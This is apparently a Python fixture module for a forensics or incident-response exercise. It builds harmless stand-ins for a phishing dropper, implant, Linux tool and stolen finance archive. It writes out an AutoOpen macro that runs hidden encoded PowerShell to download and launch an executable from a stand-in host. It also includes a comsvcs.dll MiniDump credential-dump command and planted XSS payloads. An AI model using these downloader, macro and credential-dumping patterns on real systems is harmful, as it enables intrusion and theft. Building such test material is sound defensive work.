"""The bytes the attacker brings and takes: dropper, payload, Linux tool, stolen archive.

Harmless stand-ins with the structure and strings of the real thing (a macro-enabled Word
document, a PE file, an ELF file, a gzip'd tar), built deterministically: fixed zip and tar
times, gzip mtime 0, so the hashes in the threat intelligence and the ground truth never
change. Nothing here is executable code.
"""

from __future__ import annotations

import gzip
import io
import random
import struct
import tarfile
import zipfile
from datetime import UTC, datetime
from functools import cache

__all__ = ["DATA_OWNER", "PLANTED", "archive", "data_files", "data_mtime", "dropper", "payload", "tool"]

_ZIP_TIME = (2026, 3, 9, 16, 48, 0)

#: Markup planted in attacker-controlled fields that look harmless (a script comment, an ssh
#: option), so the report's tests can check it shows as text: a script that would retitle the
#: page, an image error handler that would too, an image fetched from outside.
PLANTED = (
    "<script>document.title='pwned'</script>",
    "<img src=x onerror=\"document.title='pwned'\">",
    "<img src='http://192.0.2.1/beacon.png'>",
)
#: A PowerShell block comment (``<# ... #>``): PowerShell ignores it, a careless viewer runs it.
_COMMENT = f"<# {PLANTED[0]} #>"

#: The macro's encoded PowerShell (UTF-16LE base64, as -EncodedCommand expects).
DOWNLOAD_SCRIPT = (
    "$u='http://micros0ft-cdn.example.net/dl/msupdate.exe';"
    '$p="$env:APPDATA\\MsUpdate\\msupdate.exe";'
    "New-Item -ItemType Directory -Force (Split-Path $p)|Out-Null;"
    "(New-Object Net.WebClient).DownloadFile($u,$p);Start-Process $p"
    f"{_COMMENT}"  # last: the encoded command still starts "JAB" ($), as Sigma's rules expect
)


def encoded_command() -> str:
    import base64

    return base64.b64encode(DOWNLOAD_SCRIPT.encode("utf-16-le")).decode()


@cache
def dropper() -> bytes:
    """invoice.docm: an OOXML package whose vbaProject.bin carries an AutoOpen macro."""
    macro = (
        'Attribute VB_Name = "ThisDocument"\r\n'
        "Sub AutoOpen()\r\n"
        "    Dim s As String\r\n"
        f'    s = "powershell.exe -nop -w hidden -enc {encoded_command()}"\r\n'
        '    CreateObject("WScript.Shell").Run s, 0, False\r\n'
        "End Sub\r\n"
    ).encode("latin-1")
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"VBA_PROJECT\x00" + macro
    parts = {
        "[Content_Types].xml": (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            b'<Override PartName="/word/document.xml" '
            b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
        ),
        "word/document.xml": (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
            b"<w:p><w:r><w:t>Invoice INV-2026-0310. This document is protected. "
            b"Click Enable Content to view.</w:t></w:r></w:p></w:body></w:document>"
        ),
        "word/vbaProject.bin": vba,
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name, _ZIP_TIME)
            # The macro part is stored, not deflated, so scanners see its text.
            info.compress_type = zipfile.ZIP_STORED if name.endswith(".bin") else zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    return buf.getvalue()


def _filler(size: int, seed: str) -> bytes:
    return random.Random(seed).randbytes(size)


@cache
def payload() -> bytes:
    """msupdate.exe: a PE-shaped file with the implant's configuration strings."""
    dos = bytearray(b"MZ" + bytes(58) + struct.pack("<I", 0x80))
    dos += b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    dos = dos.ljust(0x80, b"\x00")
    pe = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664, 3, 1773050000, 0, 0, 0xF0, 0x22)
    config = (
        b"\x00MsUpdSync-7f3a\x00https://telemetry.micros0ft-cdn.example.net/api/v2/beacon\x00"
        b"sleep=300;jitter=25\x00Mozilla/5.0 (Windows NT 10.0; Win64; x64) MsUpdate/1.4\x00"
        b"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump\x00"
    )
    return bytes(dos) + pe + _filler(40_000, "payload") + config + _filler(8_000, "payload-tail")


@cache
def tool() -> bytes:
    """/tmp/.sysupd: an ELF-shaped file with the Linux tool's strings."""
    head = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 0x3E, 1)
    strings = b"\x00sysupd v0.9\x00198.51.100.23:443\x00/bin/sh -c\x00XDG_RUNTIME_DIR\x00"
    return head.ljust(64, b"\x00") + _filler(24_000, "tool") + strings + _filler(4_000, "tool-tail")


#: Owner of /srv/data on SRV01 (the web app's deploy account) and when each file last changed.
DATA_OWNER = (1002, "deploy")
_DATA_MTIMES = {
    "2025-Q3": datetime(2026, 1, 8, 15, 2, 11, tzinfo=UTC), "2025-Q4": datetime(2026, 1, 20, 9, 47, 3, tzinfo=UTC),
    "2026-Q1": datetime(2026, 2, 27, 16, 31, 40, tzinfo=UTC), "payroll": datetime(2026, 2, 26, 11, 5, 19, tzinfo=UTC),
    "README": datetime(2026, 1, 5, 8, 12, 55, tzinfo=UTC),
}  # fmt: skip


def data_mtime(name: str) -> datetime:
    """When the /srv/data file ``name`` (relative path) last changed: the image and the
    attacker's tar archive both carry this time."""
    return next(t for key, t in _DATA_MTIMES.items() if key in name)


@cache
def data_files() -> dict[str, bytes]:
    """The contents of SRV01's /srv/data (relative path -> bytes): the finance share."""
    r = random.Random("srv-data")
    customers = ["Northwind", "Contoso", "Fabrikam", "Tailspin", "Adventure Works", "Litware", "Wingtip"]
    files: dict[str, bytes] = {}
    for quarter in ("2025-Q3", "2025-Q4", "2026-Q1"):
        lines = ["invoice,customer,amount_eur,due"]
        for i in range(300):
            lines.append(
                f"INV-{quarter[:4]}-{i:04d},{r.choice(customers)},{r.randint(200, 90_000)}.{r.randint(0, 99):02d},"
                f"{quarter[:4]}-{r.randint(1, 12):02d}-{r.randint(1, 28):02d}"
            )
        files[f"finance/invoices-{quarter}.csv"] = ("\n".join(lines) + "\n").encode()
    files["finance/payroll-2026-02.csv"] = (
        "employee,iban,net_eur\n"
        + "".join(
            f"E{i:03d},DE{r.randint(10**19, 10**20 - 1)},{r.randint(2_500, 7_800)}\n" for i in range(60)
        )
    ).encode()
    files["contracts/README.txt"] = b"Signed contracts are scanned into this folder by the office team.\n"
    return files


@cache
def archive() -> bytes:
    """/tmp/.cache.tgz: ``tar czf`` of /srv/data, as the attacker made it."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for name, data in sorted(data_files().items()):
            info = tarfile.TarInfo(f"srv/data/{name}")
            info.size, info.mtime, info.mode = len(data), int(data_mtime(name).timestamp()), 0o640
            info.uid = info.gid = DATA_OWNER[0]
            info.uname = info.gname = DATA_OWNER[1]
            tar.addfile(info, io.BytesIO(data))
    return gzip.compress(raw.getvalue(), mtime=0)
